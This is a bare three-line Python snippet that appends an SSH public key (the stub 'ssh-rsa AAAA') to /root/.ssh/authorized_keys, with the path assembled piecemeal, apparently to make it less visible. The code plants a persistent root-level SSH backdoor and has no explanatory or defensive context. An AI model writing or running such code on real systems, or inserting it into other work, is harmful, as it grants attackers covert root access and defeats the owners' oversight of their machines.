place = "/root"
place += "/.ssh/authorized_keys"
open(place, "a").write("ssh-rsa AAAA")
